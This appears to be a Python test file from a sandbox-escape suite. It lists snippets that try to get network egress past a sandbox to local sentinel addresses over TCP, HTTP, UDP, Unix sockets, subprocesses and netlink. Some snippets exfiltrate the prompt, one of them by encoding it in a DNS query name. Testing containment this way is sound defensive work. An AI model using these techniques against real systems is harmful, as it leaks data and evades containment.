"""Calling out: TCP, UDP, names, unix sockets, and whatever else has an address."""

from __future__ import annotations

from functools import partial

from adversarial.attack import REFUSED, Attack
from adversarial.sentinels import HEARD, TOOK

_call = partial(Attack, sentinel=HEARD)

ATTACKS = (
    _call("call by TCP", "import socket; socket.create_connection(('127.0.0.1', AT['tcp']), 1).close()"),
    _call("call by TCP from a tool", """
        import socket
        socket.create_connection(("127.0.0.1", AT["tcp"]), 1).close()
        return "done"
    """, tool=True),
    _call("call by the event loop", """
        _, writer = await asyncio.open_connection("127.0.0.1", AT["tcp"])
        writer.write(self.ctx.prompt.encode())
        await writer.drain()
    """),
    _call("ask a web server", """
        import contextlib, urllib.request
        with contextlib.suppress(TimeoutError):
            urllib.request.urlopen(f"http://127.0.0.1:{AT['tcp']}/{self.ctx.prompt[:3]}", timeout=0.2)
    """),
    _call("call by an address of the other kind", """
        import socket
        with socket.socket(socket.AF_INET6) as sock:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            sock.connect(("::ffff:127.0.0.1", AT["tcp"]))
    """),
    _call("send a packet", """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", AT["udp"]))
    """),
    _call("send a packet at the opening of a connection", """
        import socket
        socket.socket().sendto(b"", 0x20000000, ("127.0.0.1", AT["tcp"]))
    """, ends=REFUSED),
    _call("ask a name server for a name that tells", """
        import socket
        parts = (self.ctx.prompt.encode().hex()[:40].encode(), b"example")
        name = b"".join(bytes([len(part)]) + part for part in parts) + bytes(1)
        query = bytes([1, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 1, 0, 1])
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", AT["udp"]))
    """),
    _call("call by a path", "import socket; socket.socket(socket.AF_UNIX).connect(AT['stream'])"),
    _call("call by a name that is no path", "import socket; socket.socket(socket.AF_UNIX).connect('\\0' + AT['mark'])"),
    _call("send a packet to a path", """
        import socket
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"secret", AT["post"])
    """),
    _call("call by a program", """
        import subprocess
        call = f"import socket; socket.create_connection(('127.0.0.1', {AT['tcp']}))"
        subprocess.run([AT["python"], "-S", "-c", call], check=True)
    """),
    Attack("open a port", """
        import socket
        with socket.create_server(("127.0.0.1", 0)):
            self.reach()
    """, TOOK),
    Attack("talk to the kernel", """
        import socket
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close()
        self.reach()
    """, TOOK),
)  # fmt: skip
